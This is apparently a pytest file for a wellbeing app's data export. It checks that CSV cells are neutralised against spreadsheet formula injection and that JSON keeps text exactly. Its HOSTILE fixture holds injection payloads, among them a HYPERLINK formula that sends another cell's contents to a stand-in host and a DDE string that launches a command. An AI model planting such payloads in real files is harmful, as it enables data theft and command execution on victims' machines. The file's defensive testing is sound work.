import csv
import json
import re
import shutil
import subprocess
from dataclasses import fields
from pathlib import Path

import pytest

from pause_app.core.model import (
    Felt,
    NewActivity,
    NewCheckIn,
    NewSession,
    ReminderOutcome,
    SessionEnd,
    SessionKind,
)
from pause_app.storage import export
from pause_app.storage.paths import AppPaths
from pause_app.storage.store import Store
from tests.helpers.clock import FakeClock
from tests.helpers.history import open_store


@pytest.fixture
def store(pause_home: AppPaths, clock: FakeClock) -> Store:
    opened = open_store(pause_home, clock)
    activity = opened.activities.add(NewActivity("Steps inside", "steps", 50), clock())
    opened.attempts.add(activity.id, 51, Felt.GOOD, "sunny, calm", clock())
    opened.sessions.add(NewSession(SessionKind.PAUSE, "calm", 80, 80, SessionEnd.FINISHED), clock())
    opened.reminders.add(clock(), ReminderOutcome.MISSED)
    opened.checkins.save(NewCheckIn(clock.today, 4, 6, None, None, "=1+1"), clock())
    opened.heart_rates.add([(clock.today, 58)], "=apple-health:Watch")
    yield opened
    opened.close()


def test_json_field_names_match_the_database_columns(store: Store) -> None:
    document = json.loads(export.to_json(store))
    assert document["format"] == "pause-app-export"
    for table in export.TABLES:
        columns = store.columns(table)
        assert document[table], table
        assert list(document[table][0]) == columns, table


def test_json_times_are_utc_and_days_are_local(store: Store) -> None:
    attempt = json.loads(export.to_json(store))["attempts"][0]
    assert attempt["logged_utc"] == "2026-03-15T09:00:00Z"
    assert attempt["local_date"] == "2026-03-15"
    assert attempt["utc_offset_minutes"] == 60
    assert attempt["felt"] == "good"


def test_csv_writes_one_file_per_table(store: Store, tmp_path: Path) -> None:
    written = export.write_csv(store, tmp_path / "out")
    assert sorted(p.name for p in written) == sorted(f"{t}.csv" for t in export.TABLES)
    with (tmp_path / "out" / "attempts.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["note"] == "sunny, calm"
    assert list(rows[0]) == [f.name for f in fields(export.TABLES["attempts"])]


# Text that a spreadsheet would run: a link that carries another cell away, sums, a DDE call.
HOSTILE = {
    "name": "=1+1",
    "unit": "-steps",
    "note": '=HYPERLINK("http://example.invalid/?leak="&D2,"click me")',
    "pattern": "@SUM(1+1)",
    "felt_note": "+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile(pause_home: AppPaths, clock: FakeClock) -> Store:
    opened = open_store(pause_home, clock)
    activity = opened.activities.add(NewActivity(HOSTILE["name"], HOSTILE["unit"], 5), clock())
    opened.attempts.add(activity.id, 5, Felt.OK, HOSTILE["note"], clock())
    opened.attempts.add(activity.id, 6, Felt.TIRED, HOSTILE["felt_note"], clock())
    opened.sessions.add(
        NewSession(SessionKind.BREATHING, HOSTILE["pattern"], 60, 60, SessionEnd.FINISHED), clock()
    )
    yield opened
    opened.close()


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("sunny, calm", "sunny, calm"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (-60, -60),  # a number stays a number: a negative UTC offset is not a formula
        (2.5, 2.5),
    ],
)
def test_a_csv_cell_never_starts_like_a_formula(value: object, written: object) -> None:
    assert export.cell(value) == written


def test_every_text_cell_of_the_csv_export_is_text_in_a_spreadsheet(
    hostile: Store, tmp_path: Path
) -> None:
    written = export.write_csv(hostile, tmp_path / "out")
    cells = {}
    for path in written:
        with path.open(newline="", encoding="utf-8") as handle:
            cells[path.stem] = list(csv.DictReader(handle))
    assert (cells["activities"][0]["name"], cells["activities"][0]["unit"]) == ("'=1+1", "'-steps")
    assert [row["note"] for row in cells["attempts"]] == [
        "'" + HOSTILE["note"],
        "'" + HOSTILE["felt_note"],
    ]
    assert cells["sessions"][0]["pattern"] == "'@SUM(1+1)"
    text_cells = [v for rows in cells.values() for row in rows for v in row.values()]
    assert not [v for v in text_cells if v.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [v for v in text_cells if v.startswith("-")]  # no negative offset here (UTC+1)


def test_the_json_export_keeps_the_text_exactly(hostile: Store) -> None:
    document = json.loads(export.to_json(hostile))
    assert (document["activities"][0]["name"], document["activities"][0]["unit"]) == (
        HOSTILE["name"],
        HOSTILE["unit"],
    )
    assert [a["note"] for a in document["attempts"]] == [HOSTILE["note"], HOSTILE["felt_note"]]
    assert document["sessions"][0]["pattern"] == HOSTILE["pattern"]


def _office() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(
    _office() is None,
    reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)",
)
def test_libreoffice_opens_the_csv_export_without_a_single_formula(
    hostile: Store, tmp_path: Path
) -> None:
    """The real thing: LibreOffice Calc reads each table (comma, double quote, UTF-8) and
    writes it as a flat OpenDocument sheet, where a formula would be a table:formula."""
    written = export.write_csv(hostile, tmp_path / "csv")
    subprocess.run(
        [
            str(_office()),
            f"-env:UserInstallation=file://{tmp_path / 'office-profile'}",
            "--headless",
            "--norestore",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path / "sheets"),
            *map(str, written),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    sheets = {
        path.stem: path.read_text(encoding="utf-8") for path in (tmp_path / "sheets").iterdir()
    }
    assert sorted(sheets) == sorted(export.TABLES)
    formulas = [f for sheet in sheets.values() for f in re.findall(r'table:formula="[^"]*"', sheet)]
    assert formulas == []
    assert "HYPERLINK" in sheets["attempts"] and "example.invalid" in sheets["attempts"]
